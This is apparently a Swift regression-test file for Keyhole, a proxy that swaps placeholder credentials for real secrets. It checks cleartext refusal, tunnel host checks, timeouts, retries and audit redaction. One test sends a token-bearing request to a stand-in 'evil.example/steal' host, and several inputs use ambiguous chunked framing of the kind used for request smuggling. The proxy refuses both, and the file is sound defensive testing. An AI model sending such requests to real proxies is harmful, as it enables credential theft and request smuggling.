import Foundation
import KeyholeCore
import NIOCore
import NIOEmbedded
import NIOHTTP1
import Testing

@testable import KeyholeProxy

/// Regression tests for the defects of issue 9, at the handler level (the end-to-end tests drive real clients).
@Suite struct ProxyDefectTests {
    static let api = Authority(host: "api.test", port: 443)

    // MARK: 1. Secrets in clear text

    @Test func placeholderInPlainHTTPIsRefusedAndNothingIsSent() throws {
        let harness = try ProxyHarness()
        try harness.send(
            "GET http://api.test/x HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer \(harness.placeholder)\r\n"
                + "\(harness.authorization)\r\n\r\n"
        )
        let output = try harness.clientOutput()
        #expect(output.hasPrefix("HTTP/1.1 403"))
        #expect(output.contains("--allow-http"))
        #expect(harness.connector.requests.isEmpty)
        #expect(harness.audit.events.map(\.decision) == [.denyCleartext])
        #expect(harness.audit.events.first?.credential == "api")
    }

    @Test func injectionIntoPlainHTTPIsRefused() throws {
        let credential = CredentialDefinition(
            name: "api", hosts: [try HostPattern("api.test:443")], inject: try InjectTemplate("X-Key: {secret}"),
            created: ""
        )
        let harness = try ProxyHarness(credentials: [credential])
        try harness.send("GET http://api.test:443/ HTTP/1.1\r\nHost: api.test:443\r\n\(harness.authorization)\r\n\r\n")
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 403"))
        #expect(harness.connector.requests.isEmpty)
        #expect(harness.audit.events.map(\.decision) == [.denyCleartext])
    }

    @Test func allowHTTPCredentialIsSwappedInPlainHTTP() throws {
        let credential = CredentialDefinition(name: "api", hosts: [try HostPattern("api.test")], allowHTTP: true, created: "")
        let harness = try ProxyHarness(credentials: [credential])
        try harness.send(
            "GET http://api.test/x HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer \(harness.placeholder)\r\n"
                + "\(harness.authorization)\r\n\r\n"
        )
        let sent = try harness.upstreamOutput()
        #expect(sent.contains("Authorization: Bearer \(harness.secret)\r\n"))
        #expect(harness.connector.requests.first?.1 == false)
    }

    // MARK: 2. Absolute-form requests inside an intercepted connection

    @Test func absoluteFormNamingAnotherHostInATunnelIs421() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send(
            "GET https://evil.example/steal HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer \(harness.placeholder)\r\n\r\n"
        )
        let output = try harness.clientOutput()
        #expect(output.hasPrefix("HTTP/1.1 421"))
        #expect(harness.connector.requests.isEmpty)
        let event = try #require(harness.audit.events.first)
        #expect(event.decision == .denyHost)
        #expect(event.session == "s1")
    }

    @Test func absoluteFormNamingTheTunnelHostIsSentInOriginForm() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send(
            "GET https://API.test:443/a?b=c HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer \(harness.placeholder)\r\n\r\n"
        )
        let sent = try harness.upstreamOutput()
        #expect(sent.hasPrefix("GET /a?b=c HTTP/1.1\r\n"))
        #expect(sent.contains("Bearer \(harness.secret)"))
        #expect(harness.connector.requests.first?.1 == true)
    }

    @Test func hostMismatchIsAttributedToTheSession() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 421"))
        #expect(harness.audit.events.first?.session == "s1")
    }

    // MARK: 3. Connections end when the client is done

    @Test func clientHalfCloseBetweenRequestsClosesBothLegs() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET /x HTTP/1.1\r\nHost: api.test\r\n\r\n")
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        #expect(try harness.clientOutput().hasSuffix("ok"))
        #expect(harness.client.isActive && harness.upstream.isActive)
        harness.client.pipeline.fireUserInboundEventTriggered(ChannelEvent.inputClosed)
        harness.loop.run()
        #expect(!harness.client.isActive)
        #expect(!harness.upstream.isActive)
    }

    @Test func clientHalfCloseAfterAFullRequestStillGetsTheAnswer() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET /x HTTP/1.1\r\nHost: api.test\r\n\r\n")
        harness.client.pipeline.fireUserInboundEventTriggered(ChannelEvent.inputClosed)
        harness.loop.run()
        #expect(harness.client.isActive)
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        #expect(try harness.clientOutput().hasSuffix("ok"))
        #expect(!harness.client.isActive)
        #expect(!harness.upstream.isActive)
    }

    @Test func clientHalfCloseMidBodyAbortsTheRequest() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("POST /x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 10\r\n\r\nabc")
        harness.client.pipeline.fireUserInboundEventTriggered(ChannelEvent.inputClosed)
        harness.loop.run()
        #expect(!harness.client.isActive)
        #expect(!harness.upstream.isActive)
    }

    @Test func halfCloseBeforeAnyRequestClosesTheConnection() throws {
        let harness = try ProxyHarness()
        try harness.send("CONNECT api.te")
        harness.client.pipeline.fireUserInboundEventTriggered(ChannelEvent.inputClosed)
        harness.loop.run()
        #expect(!harness.client.isActive)
    }

    @Test func tunnelGlueReleasesItsPartner() throws {
        weak var weakFirst: GlueHandler?
        weak var weakSecond: GlueHandler?
        let loop = EmbeddedEventLoop()
        do {
            let (first, second) = GlueHandler.matchedPair()
            weakFirst = first
            weakSecond = second
            let a = EmbeddedChannel(handler: first, loop: loop)
            let b = EmbeddedChannel(handler: second, loop: loop)
            try a.connect(to: SocketAddress(ipAddress: "127.0.0.1", port: 1)).wait()
            try b.connect(to: SocketAddress(ipAddress: "127.0.0.1", port: 2)).wait()
            try a.writeInbound(ByteBuffer(string: "x"))
            _ = try a.close().wait()
            loop.run()
            #expect(!b.isActive)
        }
        #expect(weakFirst == nil)
        #expect(weakSecond == nil)
    }

    // MARK: 4. Timeouts

    @Test func partialHeadIsClosedAfterTheRequestHeadTimeout() throws {
        let harness = try ProxyHarness(limits: ProxyLimits(requestHeadSeconds: 30))
        try harness.send("CONNECT api.test:443 HTTP/1.1\r\nHost: api")
        harness.loop.advanceTime(by: .seconds(29))
        #expect(harness.client.isActive)
        harness.loop.advanceTime(by: .seconds(2))
        #expect(!harness.client.isActive)
        #expect(try harness.clientOutput().isEmpty)
    }

    @Test func silentConnectionIsClosedAfterTheRequestHeadTimeout() throws {
        let harness = try ProxyHarness(limits: ProxyLimits(requestHeadSeconds: 5))
        harness.loop.advanceTime(by: .seconds(6))
        #expect(!harness.client.isActive)
    }

    @Test func idleKeepAliveConnectionIsClosedOnBothLegs() throws {
        let harness = try ProxyHarness(intercepted: Self.api, limits: ProxyLimits(idleSeconds: 120))
        try harness.send("GET /x HTTP/1.1\r\nHost: api.test\r\n\r\n")
        // A slow answer is not idleness.
        harness.loop.advanceTime(by: .seconds(200))
        #expect(harness.client.isActive)
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        harness.loop.advanceTime(by: .seconds(119))
        #expect(harness.client.isActive)
        harness.loop.advanceTime(by: .seconds(2))
        #expect(!harness.client.isActive)
        #expect(!harness.upstream.isActive)
    }

    @Test func upstreamWithoutResponseHeadGets504() throws {
        let harness = try ProxyHarness(intercepted: Self.api, limits: ProxyLimits(responseHeadSeconds: 300))
        try harness.send("GET /x HTTP/1.1\r\nHost: api.test\r\n\r\n")
        harness.loop.advanceTime(by: .seconds(301))
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 504"))
        #expect(!harness.upstream.isActive)
        #expect(harness.audit.events.last?.reason == "upstream response timed out")
    }

    // MARK: 5. A kept-alive upstream that closed while idle

    @Test func upstreamClosedWhileIdleIsNotReused() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET /1 HTTP/1.1\r\nHost: api.test\r\n\r\n")
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        // close_notify or FIN from the server while the connection idles.
        harness.upstream.pipeline.fireUserInboundEventTriggered(ChannelEvent.inputClosed)
        harness.loop.run()
        #expect(!harness.upstream.isActive)
        #expect(harness.client.isActive)
        try harness.send("GET /2 HTTP/1.1\r\nHost: api.test\r\n\r\n")
        #expect(harness.connector.requests.count == 2)
        #expect(try harness.upstreamOutput(1).hasPrefix("GET /2 HTTP/1.1"))
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", from: 1)
        #expect(try harness.clientOutput().components(separatedBy: "HTTP/1.1 200").count == 3)
    }

    @Test func requestIsRetriedOnceWhenAReusedConnectionFailsBeforeAnswering() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET /1 HTTP/1.1\r\nHost: api.test\r\n\r\n")
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        _ = try harness.clientOutput()
        try harness.send("GET /2 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer \(harness.placeholder)\r\n\r\n")
        #expect(try harness.upstreamOutput(0).contains("GET /2"))
        // The server had closed just as the request went out.
        harness.upstream.pipeline.fireUserInboundEventTriggered(ChannelEvent.inputClosed)
        harness.loop.run()
        #expect(harness.connector.requests.count == 2)
        let replay = try harness.upstreamOutput(1)
        #expect(replay.hasPrefix("GET /2 HTTP/1.1"))
        #expect(replay.contains("Bearer \(harness.secret)"))
        // The fresh connection fails too: no second retry, the client gets 502.
        harness.connector.upstreams[1].pipeline.fireUserInboundEventTriggered(ChannelEvent.inputClosed)
        harness.loop.run()
        #expect(harness.connector.requests.count == 2)
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 502"))
    }

    @Test func noRetryAfterResponseBytes() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET /1 HTTP/1.1\r\nHost: api.test\r\n\r\n")
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        try harness.send("GET /2 HTTP/1.1\r\nHost: api.test\r\n\r\n")
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc")
        harness.upstream.pipeline.fireUserInboundEventTriggered(ChannelEvent.inputClosed)
        harness.loop.run()
        #expect(harness.connector.requests.count == 1)
        #expect(!harness.client.isActive)
    }

    @Test func noRetryOfAStreamedBody() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET /1 HTTP/1.1\r\nHost: api.test\r\n\r\n")
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        _ = try harness.clientOutput()
        try harness.send("POST /2 HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\n\r\nabc")
        harness.upstream.pipeline.fireUserInboundEventTriggered(ChannelEvent.inputClosed)
        harness.loop.run()
        #expect(harness.connector.requests.count == 1)
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 502"))
    }

    // MARK: 7. The audit path holds no placeholder

    @Test func placeholderInThePathIsAuditedAsTheCredentialName() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET /keys/\(harness.placeholder)/x?k=1 HTTP/1.1\r\nHost: api.test\r\n\r\n")
        try harness.answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        let event = try #require(harness.audit.events.first)
        #expect(event.path == "/keys/{api}/x")
        #expect(try harness.upstreamOutput().contains("/keys/\(harness.secret)/x"))
    }
}

extension ProxyDefectTests {
    @Test func aResponseBodyThatStallsForeverEndsBothLegs() throws {
        let harness = try ProxyHarness(intercepted: Self.api, limits: ProxyLimits(tunnelIdleSeconds: 3600))
        try harness.send("GET /x HTTP/1.1\r\nHost: api.test\r\n\r\n")
        // A response framed by the end of the connection, which never comes.
        try harness.answer("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nsome")
        harness.loop.advanceTime(by: .seconds(3000))
        try harness.answer("more")
        harness.loop.advanceTime(by: .seconds(3000))
        #expect(harness.client.isActive)
        harness.loop.advanceTime(by: .seconds(700))
        #expect(!harness.client.isActive)
        #expect(!harness.upstream.isActive)
        #expect(harness.audit.events.last?.reason?.hasPrefix("no data either way") == true)
    }
}

extension ProxyDefectTests {
    @Test func anIdleTunnelEndsOnBothSides() throws {
        let harness = try ProxyHarness(limits: ProxyLimits(tunnelIdleSeconds: 3600))
        try harness.send("CONNECT elsewhere.test:443 HTTP/1.1\r\nHost: elsewhere.test:443\r\n\(harness.authorization)\r\n\r\n")
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 200"))
        harness.loop.advanceTime(by: .seconds(3000))
        try harness.send("bytes")
        harness.loop.advanceTime(by: .seconds(3000))
        #expect(harness.client.isActive)
        harness.loop.advanceTime(by: .seconds(700))
        #expect(!harness.client.isActive)
        #expect(!harness.upstream.isActive)
    }
}

extension ProxyDefectTests {
    /// Found by the network fuzzer: framing the upstream would read differently from keyhole's decoder.
    @Test(arguments: [
        "GET /x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        "GET /x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: identity, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        "TRACE /x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\n\r\nhello",
    ])
    func ambiguousFramingIsRefused(request: String) throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send(request)
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 400"))
        #expect(harness.connector.requests.isEmpty)
    }

    @Test func chunkedInAnyCaseIsForwardedChunked() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET /x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: Chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
        let sent = try harness.upstreamOutput()
        #expect(sent.contains("Transfer-Encoding: chunked\r\n"))
        #expect(sent.hasSuffix("5\r\nhello\r\n0\r\n\r\n"))
    }
}

extension ProxyDefectTests {
    /// Found by the proxy fuzz target: a 101 to a request without `Upgrade` turned the connection into a raw tunnel.
    @Test func anUnrequestedSwitchOfProtocolsIsRefused() throws {
        let harness = try ProxyHarness(intercepted: Self.api)
        try harness.send("GET /ws HTTP/1.1\r\nHost: api.test\r\n\r\n")
        try harness.answer("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 502"))
        #expect(!harness.client.isActive)
        #expect(!harness.upstream.isActive)
    }
}

extension ProxyDefectTests {
    /// Found by the proxy fuzz target (an AWS request whose body keyhole must hash before it can re-sign): a body
    /// that never ended held the connection open forever; no timer watched the collecting state.
    @Test func anAWSBodyToHashThatNeverEndsIsClosedAfterTheStallTime() throws {
        let placeholder = AWSCredentials(accessKeyID: "ASIAKEYHOLETEST00009", secretAccessKey: "placeholder/secret", sessionToken: nil)
        let harness = try ProxyHarness(
            credentials: [CredentialDefinition(name: "aws", kind: .aws, hosts: [try HostPattern("api.test")], created: "")],
            intercepted: Self.api, limits: ProxyLimits(tunnelIdleSeconds: 3600),
            awsKeys: [placeholder.accessKeyID: AWSSessionKey(credential: "aws", placeholder: placeholder)]
        )
        try harness.send(
            "POST / HTTP/1.1\r\nHost: api.test\r\nX-Amz-Date: 20240517T093015Z\r\nContent-Length: 43\r\n"
                + "Authorization: AWS4-HMAC-SHA256 Credential=ASIAKEYHOLETEST00009/20240517/us-east-1/sts/aws4_request, "
                + "SignedHeaders=host;x-amz-date, Signature=\(String(repeating: "ab", count: 32))\r\n\r\nAction=Get"
        )
        harness.loop.advanceTime(by: .seconds(3000))
        try harness.send("Caller")
        harness.loop.advanceTime(by: .seconds(3000))
        #expect(harness.client.isActive)
        harness.loop.advanceTime(by: .seconds(700))
        #expect(!harness.client.isActive)
        #expect(harness.connector.requests.isEmpty)
        #expect(harness.audit.events.last?.reason?.hasPrefix("no data either way") == true)
    }
}
